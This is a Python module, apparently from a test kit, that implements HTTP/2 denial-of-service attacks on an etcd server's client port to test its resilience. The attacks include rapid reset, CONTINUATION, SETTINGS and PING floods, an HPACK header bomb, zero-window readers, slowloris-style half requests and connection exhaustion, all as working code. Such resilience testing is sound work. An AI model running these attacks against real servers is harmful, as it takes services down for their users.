"""Attacks on a server's client port, as raw frames. Each is bounded in time, bytes and sockets.

An attack runs until its time is over and comes back when it is thrown out, as attackers do. It
returns what happened to its first connection and how often it had to come back.
"""

from __future__ import annotations

import resource
import socket
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.kit import raw_h2 as h2
from tests.kit.raw_h2_client import RawConnection, close_all

RANGE = b"/etcdserverpb.KV/Range"
PUT = b"/etcdserverpb.KV/Put"
WATCH = b"/etcdserverpb.Watch/Watch"
BIG_KEY = b"abuse/big"  # what the victim stores before: the largest value that etcd takes
GET_BIG = h2.message(b"\x0a" + bytes([len(BIG_KEY)]) + BIG_KEY)
BURST = 200  # frames in one write
TLS_HELLO_START = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


@dataclass
class Outcome:
    """What an attack met with."""

    first: str  # what happened to the first connection
    connections: int = 1
    frames: int = 0  # sent on the first connection until then
    ends: dict[str, int] = field(default_factory=dict)  # of all connections


Attack = Callable[[int, float], Outcome]
Burst = Callable[[int], bytes]  # from the number of the burst to its frames


def flood(
    port: int, seconds: float, start: bytes, burst: Burst, frames_of_burst: int = BURST
) -> Outcome:
    """Send bursts as fast as the server takes them, again on a new connection after each end."""
    deadline = time.monotonic() + seconds
    outcome: Outcome | None = None
    ends: dict[str, int] = {}
    connections = 0
    while time.monotonic() < deadline:
        with RawConnection(port) as connection:
            connections += 1
            connection.send(start)
            number = 0
            while time.monotonic() < deadline and connection.send(burst(number)):
                number += 1
            connection.listen(0.05)
            ends[connection.outcome] = ends.get(connection.outcome, 0) + 1
            if outcome is None:
                outcome = Outcome(connection.outcome, frames=number * frames_of_burst)
    assert outcome is not None
    outcome.connections, outcome.ends = connections, ends
    return outcome


def rapid_reset(port: int, seconds: float) -> Outcome:
    """Requests that are reset at once, so that no limit of streams counts them."""
    block = h2.block(h2.request_fields(RANGE))

    def burst(number: int) -> bytes:
        ids = range(number * BURST * 2 + 1, (number + 1) * BURST * 2 + 1, 2)
        return b"".join(h2.headers(one, block) + h2.rst_stream(one) for one in ids)

    return flood(port, seconds, b"", burst, 2 * BURST)


def made_resets(port: int, seconds: float) -> Outcome:
    """Requests that the server itself must reset: a WINDOW_UPDATE of 0 on each."""
    block = h2.block(h2.request_fields(RANGE))

    def burst(number: int) -> bytes:
        ids = range(number * BURST * 2 + 1, (number + 1) * BURST * 2 + 1, 2)
        return b"".join(h2.headers(one, block) + h2.window_update(one, 0) for one in ids)

    return flood(port, seconds, b"", burst, 2 * BURST)


def continuation_flood(port: int, seconds: float) -> Outcome:
    """A header block that never ends."""
    start = h2.headers(1, b"", end_headers=False)
    part = h2.continuation(1, h2.field(b"x-a", b"a" * 50)) * BURST
    return flood(port, seconds, start, lambda _number: part)


def empty_continuation_flood(port: int, seconds: float) -> Outcome:
    """A header block that never ends and never grows."""
    start = h2.headers(1, b"", end_headers=False)
    part = h2.continuation(1, b"") * BURST
    return flood(port, seconds, start, lambda _number: part)


def settings_flood(port: int, seconds: float) -> Outcome:
    """SETTINGS, each of which wants an acknowledgement."""
    part = h2.settings((h2.HEADER_TABLE_SIZE, 100)) * BURST
    return flood(port, seconds, b"", lambda _number: part)


def ping_flood(port: int, seconds: float) -> Outcome:
    """PING, each of which wants an answer."""
    part = h2.ping() * BURST
    return flood(port, seconds, b"", lambda _number: part)


def empty_data_flood(port: int, seconds: float) -> Outcome:
    """DATA frames without data, which no window limits."""
    start = h2.headers(1, h2.request_fields(WATCH))
    part = h2.data(1) * BURST
    return flood(port, seconds, start, lambda _number: part)


def window_update_flood(port: int, seconds: float) -> Outcome:
    """WINDOW_UPDATE of one byte."""
    part = h2.window_update(0, 1) * BURST
    return flood(port, seconds, b"", lambda _number: part)


def priority_flood(port: int, seconds: float) -> Outcome:
    """PRIORITY on idle streams."""
    part = b"".join(h2.priority(2 * one + 1) for one in range(BURST))
    return flood(port, seconds, b"", lambda _number: part)


def header_bomb(port: int, seconds: float) -> Outcome:
    """A field of 4,000 bytes that one octet names, 15,000 times in each request: 60 MB of list."""
    block = h2.block(h2.request_fields(RANGE))
    big = b"\x40" + h2.field(b"x-bomb", b"b" * 3900)[1:]
    start = h2.headers(1, block + big, end_stream=True)

    def burst(number: int) -> bytes:
        return h2.headers(2 * number + 3, block + bytes([0x80 | 62]) * 15_000, end_stream=True)

    return flood(port, seconds, start, burst, 1)


def huge_message(port: int, seconds: float) -> Outcome:
    """Messages that declare 4 GiB."""
    block = h2.block(h2.request_fields(PUT))
    promise = h2.message(bytes(1000), declared=2**32 - 1)

    def burst(number: int) -> bytes:
        one = 2 * number + 1
        return h2.headers(one, block) + h2.data(one, promise)

    return flood(port, seconds, b"", burst, 2)


def hold(connections: list[RawConnection], deadline: float) -> None:
    """Keep connections open, reading what comes, until the time is over."""
    while time.monotonic() < deadline:
        for connection in connections:
            connection.listen(0.0)
            connection._read()
        time.sleep(0.05)


def summed(connections: list[RawConnection], frames: int = 0) -> Outcome:
    ends: dict[str, int] = {}
    for connection in connections:
        ends[connection.outcome] = ends.get(connection.outcome, 0) + 1
    most = max(ends, key=lambda end: ends[end])
    return Outcome(most, len(connections), frames, ends)


def shut_windows(port: int, seconds: float) -> Outcome:
    """A reader whose window stays 0 asks for big answers on 250 streams."""
    deadline = time.monotonic() + seconds
    with RawConnection(port, (h2.INITIAL_WINDOW_SIZE, 0)) as connection:
        for one in range(1, 501, 2):
            connection.send(h2.headers(one, h2.request_fields(RANGE)))
            connection.send(h2.data(one, GET_BIG, end_stream=True))
        hold([connection], deadline)
        return summed([connection], 250)


def deaf_readers(port: int, seconds: float) -> Outcome:
    """20 readers open their windows, ask for five big answers each, and never read."""
    deadline = time.monotonic() + seconds
    readers = []
    for _ in range(20):
        reader = RawConnection(port, (h2.INITIAL_WINDOW_SIZE, h2.LARGEST_WINDOW))
        reader.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        reader.send(h2.window_update(0, h2.LARGEST_WINDOW - h2.DEFAULT_WINDOW), read=False)
        for one in range(1, 11, 2):
            reader.send(h2.headers(one, h2.request_fields(RANGE)), read=False)
            reader.send(h2.data(one, GET_BIG, end_stream=True), read=False)
        readers.append(reader)
    time.sleep(max(0.0, deadline - time.monotonic()))
    for reader in readers:
        reader.listen(0.0)
    outcome = summed(readers)
    close_all(readers)
    return outcome


def unfinished_messages(port: int, seconds: float) -> Outcome:
    """1,000 streams send 200 KiB each of a message that never ends."""
    deadline = time.monotonic() + seconds
    fields = h2.block(h2.request_fields(PUT))
    pieces = [h2.message(bytes(16_000), declared=1_000_000)] + [bytes(16_000)] * 11
    with RawConnection(port) as connection:
        sent = 0
        for one in range(1, 2001, 2):
            frames = h2.headers(one, fields) + b"".join(h2.data(one, part) for part in pieces)
            if time.monotonic() > deadline or not connection.send(frames, 1.0):
                break
            sent += 1
        hold([connection], deadline)
        outcome = summed([connection], sent)
        outcome.first = f"{outcome.first} ({sent} streams taken)"
        return outcome


def _stuck(port: int, seconds: float, count: int, begin: bytes, *, preface: bool) -> Outcome:
    deadline = time.monotonic() + seconds
    held = []
    for _ in range(count):
        connection = RawConnection(port, preface=preface)
        connection.send(begin)
        held.append(connection)
    hold(held, deadline)
    outcome = summed(held)
    close_all(held)
    return outcome


def half_requests(port: int, seconds: float) -> Outcome:
    """200 connections send half a request and fall silent."""
    begin = h2.headers(1, h2.request_fields(PUT)) + h2.data(1, h2.message(b"half", declared=8))
    return _stuck(port, seconds, 200, begin, preface=True)


def half_frames(port: int, seconds: float) -> Outcome:
    """200 connections send half a frame and fall silent."""
    begin = h2.headers(1, h2.request_fields(PUT)) + h2.data(1, bytes(100))[:50]
    return _stuck(port, seconds, 200, begin, preface=True)


def half_prefaces(port: int, seconds: float) -> Outcome:
    """200 connections send half a preface and fall silent."""
    return _stuck(port, seconds, 200, h2.PREFACE[:12], preface=False)


def half_hellos(port: int, seconds: float) -> Outcome:
    """200 connections begin a TLS handshake and fall silent."""
    return _stuck(port, seconds, 200, TLS_HELLO_START, preface=False)


def many_connections(port: int, seconds: float) -> Outcome:
    """Thousands of connections that say nothing after their preface."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    deadline = time.monotonic() + seconds
    held: list[RawConnection] = []
    try:
        for _ in range(min(3_000, hard - 200)):
            if time.monotonic() > deadline:
                break
            try:
                held.append(RawConnection(port))
            except OSError:
                break
        hold(held, deadline)
        outcome = summed(held)
        refused = sum(connection.ended is not None for connection in held)
        outcome.first = f"{len(held) - refused} kept, {refused} closed"
        return outcome
    finally:
        close_all(held)
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


def many_streams(port: int, seconds: float) -> Outcome:
    """One connection opens watch streams without end."""
    block = h2.block(h2.request_fields(WATCH))

    def burst(number: int) -> bytes:
        ids = range(number * BURST * 2 + 1, (number + 1) * BURST * 2 + 1, 2)
        return b"".join(h2.headers(one, block) for one in ids)

    return flood(port, seconds, b"", burst)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(rapid_reset, made_resets, continuation_flood, empty_continuation_flood),
        *(settings_flood, ping_flood, empty_data_flood, window_update_flood, priority_flood),
        *(header_bomb, huge_message, shut_windows, deaf_readers, unfinished_messages),
        *(half_requests, half_frames, half_prefaces, half_hellos),
        *(many_connections, many_streams),
    )
}
UNDER_TLS = frozenset({"half_hellos"})
